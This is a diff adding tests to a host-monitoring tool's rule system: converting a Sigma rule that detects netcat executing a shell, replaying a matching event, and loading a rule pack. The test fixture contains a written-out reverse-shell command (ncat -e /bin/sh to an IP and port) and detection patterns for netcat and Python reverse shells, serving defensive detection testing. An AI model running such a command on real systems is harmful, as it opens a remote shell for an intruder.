@@ -32,6 +32,42 @@ const ev = (o: Record<string, unknown>) =>
   });
 
 describe('warden rules', () => {
+  it('import-sigma converts a Sigma rule into rule YAML that lints, and says why for one it cannot convert', () => {
+    const dir = path.join(tmp, 'sigma');
+    fs.mkdirSync(dir, { recursive: true });
+    fs.writeFileSync(
+      path.join(dir, 'nc.yml'),
+      'title: Netcat exec\nid: 11111111-2222-3333-4444-555555555555\nauthor: Someone\nreferences: [https://example.invalid/nc]\ntags: [attack.execution, attack.t1059.004]\nlevel: high\nlogsource: {category: process_creation, product: linux}\ndetection:\n  sel:\n    Image|endswith: [/nc, /ncat]\n    CommandLine|contains: " -e "\n  condition: sel\n',
+    );
+    fs.writeFileSync(path.join(dir, 'auditd.yml'), 'title: A\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: EXECVE\n  condition: sel\n');
+    const out = path.join(tmp, 'sigma-out.yaml');
+    const r = warden(['rules', 'import-sigma', dir, '-o', out]);
+    expect(r.status).toBe(0);
+    expect(r.stderr).toMatch(/process_creation \| 1 \| 0/);
+    expect(r.stderr).toMatch(/not converted: .*auditd\.yml: logsource service auditd/);
+    const text = fs.readFileSync(out, 'utf8');
+    expect(text).toMatch(/Detection Rule License/);
+    expect(text).toMatch(/id: sigma_nc/);
+    expect(text).toMatch(/author: Someone/);
+    expect(warden(['rules', 'lint', out]).status).toBe(0);
+    // the converted rule fires on the behaviour
+    const line = ev({ kind: 'process.exec', proc: { pid: 11, ppid: 10, exe: '/usr/bin/ncat', argv: ['ncat', '-e', '/bin/sh', '10.0.0.1', '4444'], cwd: '/home/dev/p', uid: 1000 }, file: undefined });
+    const rep = warden(['replay', '-', '-r', out, '--min-severity', 'alert'], { input: line + '\n' });
+    expect(rep.stdout).toMatch(/"rule":"sigma_nc"|sigma_nc/);
+  });
+
+  it('rules.packs loads the shipped sigma pack, and an unknown pack is a config error with file and line (exit 2)', () => {
+    const cfg = path.join(tmp, 'packs.yaml');
+    fs.writeFileSync(cfg, 'rules:\n  packs: [sigma]\n');
+    const list = warden(['rules', 'list', '-c', cfg]);
+    expect(list.status).toBe(0);
+    expect(list.stdout).toMatch(/sigma_proc_creation_lnx_python_reverse_shell/);
+    fs.writeFileSync(cfg, 'rules:\n  packs: [nope]\n');
+    const bad = warden(['rules', 'lint', '-c', cfg]);
+    expect(bad.status).toBe(2);
+    expect(bad.stderr).toMatch(/packs\.yaml:2.*unknown rule pack "nope"/s);
+  });
+
   it('lints the default rules from any directory, and names file and line of a bad rule (exit 2)', () => {
     const ok = warden(['rules', 'lint'], { cwd: '/' });
     expect(ok.status).toBe(0);
